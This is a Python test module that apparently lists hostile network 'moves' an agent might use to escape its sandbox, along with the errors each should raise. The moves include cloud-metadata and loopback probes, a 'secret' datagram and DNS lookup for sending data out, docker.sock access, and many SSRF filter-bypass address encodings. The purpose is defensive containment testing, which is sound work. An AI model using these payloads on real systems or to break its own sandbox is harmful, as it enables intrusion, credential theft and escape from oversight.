"""Moves out of the sandbox by the network."""

from __future__ import annotations

from dataclasses import replace

from tests.agents.sandboxes.hostile.move import Move

NETWORK = [
    Move(
        "reaches the metadata service and the host without a network",
        """
for address in ("169.254.169.254", "169.254.170.2", "192.0.2.1", F["address"], "127.0.0.1"):
    for port in (80, F["port"]):
        attempt(f"{address} {port}", lambda: connect(socket.AF_INET, (address, port)))
attempt("fd00:ec2::254", lambda: connect(socket.AF_INET6, ("fd00:ec2::254", 80)))
attempt("::1", lambda: connect(socket.AF_INET6, ("::1", F["port"])))
""",
        "EPERM EACCES ENETUNREACH ECONNREFUSED EAFNOSUPPORT EADDRNOTAVAIL",
        ("127.0.0.1 " + "{port}",),
    ),
    Move(
        "sends what needs no connection",
        """
def send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        return made.sendto(b"secret", address)
attempt("a datagram", lambda: send(("192.0.2.1", 53)))
attempt("a datagram to the host", lambda: send((F["address"], F["port"])))
attempt("to everybody", lambda: send(("255.255.255.255", 9)))
attempt("a name", lambda: socket.getaddrinfo("secret.example.org", 80))
for name, kind in (("raw", socket.SOCK_RAW), ("icmp", socket.SOCK_DGRAM)):
    attempt(name, lambda: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP))
""",
        "EPERM EACCES ENETUNREACH NONAME EPROTONOSUPPORT",
    ),
    Move(
        "uses sockets of other families",
        """
attempt("frames", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("the hypervisor", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
attempt("the kernel's ciphers", lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))
attempt("a bus", lambda: socket.socket(29, socket.SOCK_RAW, 1))
attempt("tipc", lambda: socket.socket(30, socket.SOCK_STREAM))
attempt("xdp", lambda: socket.socket(44, socket.SOCK_RAW))
attempt("an abstract socket of the host", lambda: connect(socket.AF_UNIX, "\\0" + F["abstract"]))
attempt("a socket file of the host", lambda: connect(socket.AF_UNIX, F["socket"]))
attempt("docker", lambda: connect(socket.AF_UNIX, "/run/docker.sock"))
""",
        "EPERM EACCES ENOENT ECONNREFUSED",
        ("an abstract socket of the host", "a socket file of the host"),
    ),
]

ASK = r"""
gate = ("127.0.0.1", int(os.environ["http_proxy"].rpartition(":")[2]))
def ask(request):
    with socket.create_connection(gate, timeout=10) as made:
        made.sendall(request.encode())
        answer = made.recv(4000)
    status = int(answer.split()[1])
    if status == 403 or 400 <= status < 500:
        raise OSError(errno.EACCES if status == 403 else errno.EINVAL, answer.decode())
    return answer
def tunnel(place):
    return ask(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n")
def page(address, host="127.0.0.1"):
    return ask(f"GET {address} HTTP/1.1\r\nHost: {host}\r\n\r\n")
"""

# With a list of places, and so with a gate to them; of all that are named here, none is listed.
LISTED = [
    *(replace(move, name=f"{move.name}, past the gate") for move in NETWORK),
    Move(
        "asks the gate for the metadata service",
        ASK
        + """
for place in (
    "169.254.169.254:80",
    "169.254.169.254:443",
    "[::ffff:169.254.169.254]:80",
    "[::ffff:a9fe:a9fe]:80",
    "[fd00:ec2::254]:80",
    "2852039166:80",
    "0xa9fea9fe:80",
    "0251.0376.0251.0376:80",
    "169.254.43518:80",
    "169.254.169.254.:80",
    "metadata.google.internal:80",
    "instance-data:80",
    "169.254.170.2:80",
    "100.100.100.200:80",
    "192.0.0.192:80",
):
    attempt(f"a tunnel to {place}", lambda: tunnel(place))
    attempt(f"a page of {place}", lambda: page(f"http://{place}/latest/meta-data/"))
""",
        "EACCES EINVAL",
    ),
    Move(
        "asks the gate for a place that is not listed",
        ASK
        + """
listed, other = F["listed"], F["port"]
for place in (
    f"127.0.0.1:{other}",
    f"localhost:{other}",
    f"[::1]:{other}",
    f"0.0.0.0:{other}",
    f"127.1:{other}",
    f"2130706433:{other}",
    f"{F['address']}:{other}",
    f"127.0.0.1:22",
    f"127.0.0.2:{listed}",
    f"[::ffff:127.0.0.1]:{other}",
    "example.org:80",
    "example.org:443",
    f"127.0.0.1:{listed}@example.org:80",
    f"example.org:80#127.0.0.1:{listed}",
    f"127.0.0.1:{listed}\\0.example.org:80",
    "/run/docker.sock:80",
):
    attempt(f"a tunnel to {place!r}", lambda: tunnel(place))
    attempt(f"a page of {place!r}", lambda: page(f"http://{place}/"))
    attempt(f"a page that says {place!r}", lambda: page("/", place))
attempt("a file", lambda: page("file:///etc/passwd"))
attempt("another protocol", lambda: page(f"ftp://127.0.0.1:{other}/"))
""",
        "EACCES EINVAL",
    ),
]
